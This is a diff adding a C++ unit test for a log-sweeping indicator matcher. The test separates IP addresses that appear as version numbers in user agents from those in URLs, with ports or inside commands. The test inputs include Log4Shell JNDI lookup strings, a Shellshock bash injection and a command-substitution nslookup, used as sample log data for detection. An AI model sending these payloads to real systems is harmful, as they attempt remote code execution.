@@ -55,3 +55,31 @@ TEST_CASE("sweep: what follows the name of a product is its version") {
                "rev. 203.0.113.9",
                "versions 203.0.113.9"});
 }
+
+TEST_CASE("sweep: addresses in user agents are versions, but in URLs, with ports and in commands") {
+    const auto set = built("type,value\nip,203.0.113.9\n");
+    const auto count = [&](const std::string& agent) {
+        CAPTURE(agent);
+        return hits(set,
+                    "198.51.100.1 - - [01/Mar/2021:11:14:07 +0900] \"GET / HTTP/1.0\" 200 1 \"-\" "
+                    "\"" +
+                        agent + "\"\n",
+                    "weblog")
+            .size();
+    };
+    for (const char* agent : {"${jndi:ldap://203.0.113.9:1389/a}",
+                              "${jndi:${lower:l}dap://203.0.113.9/a}",
+                              "() { :;}; /bin/bash -c 'ping 203.0.113.9'",
+                              "$(nslookup 203.0.113.9)",
+                              "Bot/1.0 (+http://203.0.113.9/bot.html)",
+                              "203.0.113.9:8080",
+                              "203.0.113.9"}) {
+        CHECK(count(agent) == 1);
+    }
+    for (const char* agent : {"Name/203.0.113.9",
+                              "Mozilla/5.0 Name/203.0.113.9",
+                              "Name 203.0.113.9",
+                              "Mozilla/5.0 (rv:203.0.113.9) x"}) {
+        CHECK(count(agent) == 0);
+    }
+}
